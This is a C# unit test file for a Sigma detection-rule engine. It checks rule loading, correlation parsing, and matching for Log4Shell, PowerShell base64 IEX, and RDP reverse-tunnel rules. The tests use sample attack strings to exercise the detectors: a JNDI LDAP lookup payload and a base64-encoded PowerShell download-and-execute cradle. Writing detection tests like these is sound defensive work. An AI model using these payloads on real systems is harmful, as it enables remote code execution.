using System.Text;
using Enclave.Intel.Sigma;

namespace Enclave.Intel.Tests.Sigma;

/// <summary>Every rule in ../shared/testdata/intel/sigma loads or is listed with its reason.</summary>
public sealed class SigmaRealRulesTests
{
    private static readonly SigmaRuleSet All = SigmaRuleSet.Load([SharedTestData.Intel("sigma")]);

    [Fact]
    public void SharedSigmaFolder_LoadsEveryDetectionRule_AndListsTheRestWithReasons()
    {
        // 31 SigmaHQ rules, 2 historical ones, the specification's example rule.
        Assert.Equal(34, All.Rules.Count);
        Assert.Empty(All.Correlations);
        Assert.Equal(6, All.Skipped.Count);
        Assert.Equal(SigmaRejection.UnknownRule, Assert.Single(All.Skipped, s => s.Source.EndsWith("example-filter_1.yml", StringComparison.Ordinal)).Reason);
        var correlations = All.Skipped.Where(s => s.Source.Contains("correlation", StringComparison.Ordinal)).ToList();
        Assert.Equal(5, correlations.Count);
        Assert.All(correlations, s => Assert.Equal(SigmaRejection.UnknownRule, s.Reason));
        Assert.Equal(33, Directory.GetFiles(SharedTestData.Intel("sigma/rules"), "*.yml").Length + Directory.GetFiles(SharedTestData.Intel("sigma/rules-historical-2021"), "*.yml").Length);
    }

    [Fact]
    public void SharedCorrelationRules_LoadWithTheirBaseRules()
    {
        var bases = new[] { "5638f7c0-ac70-491d-8465-2a65075e0d86", "recon_cmd_a", "recon_cmd_b", "recon_cmd_c", "website_access" }
            .Select(n => ($"{n}.yml", Encoding.UTF8.GetBytes($"title: {n}\nid: {n}\nname: {n}\nlogsource:\n    product: test\ndetection:\n    sel:\n        EventID: 1\n    condition: sel\n")));
        var files = Directory.GetFiles(SharedTestData.Intel("sigma/correlation"), "*.yml").Select(f => (f, File.ReadAllBytes(f)));
        var set = SigmaRuleSet.Load(bases.Concat(files));

        Assert.Empty(set.Skipped);
        Assert.Equal(
            [SigmaCorrelationType.EventCount, SigmaCorrelationType.ValueCount, SigmaCorrelationType.Temporal, SigmaCorrelationType.TemporalOrdered, SigmaCorrelationType.ValueSum],
            set.Correlations.Select(c => c.Type).Order());
        var valueCount = Assert.Single(set.Correlations, c => c.Type == SigmaCorrelationType.ValueCount);
        Assert.Equal("User", valueCount.Field);
        Assert.Equal(TimeSpan.FromDays(1), valueCount.Timespan);
        Assert.Equal(["ComputerName", "WorkstationName"], valueCount.GroupBy);
        Assert.Equal(("gte", 100m), Assert.Single(valueCount.Condition));
    }

    [Fact]
    public void Log4ShellKeywordRule_MatchesAJndiLookupInAnyField_AndNotAPlainRequest()
    {
        var rule = Assert.Single(All.Rules, r => r.Source.EndsWith("web_cve_2021_44228_log4j.yml", StringComparison.Ordinal));
        var web = new SigmaLogSource { Category = "webserver" };
        Assert.True(rule.Matches(SigmaEvent.FromFields(SigmaTestSupport.T0, web, new Dictionary<string, string?> { ["cs-user-agent"] = "${jndi:ldap://x.example/a}" })));
        Assert.False(rule.Matches(SigmaEvent.FromFields(SigmaTestSupport.T0, web, new Dictionary<string, string?> { ["cs-user-agent"] = "curl/8.0" })));
        Assert.False(rule.Matches(SigmaEvent.FromFields(SigmaTestSupport.T0, new SigmaLogSource { Product = "enclave" }, new Dictionary<string, string?> { ["cs-user-agent"] = "${jndi:ldap://x.example/a}" })));
    }

    [Fact]
    public void PowershellBase64IexRule_FindsIexInsideBase64AtEveryOffset()
    {
        var rule = Assert.Single(All.Rules, r => r.Source.EndsWith("proc_creation_win_powershell_base64_iex.yml", StringComparison.Ordinal));
        var source = new SigmaLogSource { Product = "windows", Category = "process_creation" };
        foreach (var prefix in new[] { string.Empty, "a", "ab" })
        {
            var encoded = Convert.ToBase64String(Encoding.UTF8.GetBytes(prefix + "IEX (New-Object Net.WebClient).DownloadString('x')"));
            Assert.True(rule.Matches(SigmaEvent.FromFields(SigmaTestSupport.T0, source, new Dictionary<string, string?> { ["CommandLine"] = "powershell -enc " + encoded })), prefix);
        }

        var benign = Convert.ToBase64String(Encoding.UTF8.GetBytes("Get-ChildItem C:\\"));
        Assert.False(rule.Matches(SigmaEvent.FromFields(SigmaTestSupport.T0, source, new Dictionary<string, string?> { ["CommandLine"] = "powershell -enc " + benign })));
    }

    [Fact]
    public void RdpReverseTunnelRule_NeedsAllSelections_WithCidrAndEndswith()
    {
        var rule = Assert.Single(All.Rules, r => r.Source.EndsWith("net_connection_win_rdp_reverse_tunnel.yml", StringComparison.Ordinal));
        var source = new SigmaLogSource { Product = "windows", Category = "network_connection" };
        SigmaEvent Connection(string ip) => SigmaEvent.FromFields(SigmaTestSupport.T0, source, new Dictionary<string, string?>
        {
            ["Image"] = @"C:\Windows\System32\SVCHOST.EXE", ["Initiated"] = "true", ["SourcePort"] = "3389", ["DestinationIp"] = ip,
        });
        Assert.True(rule.Matches(Connection("127.0.0.5")));
        Assert.True(rule.Matches(Connection("::1")));
        Assert.False(rule.Matches(Connection("10.0.0.5")));
    }
}
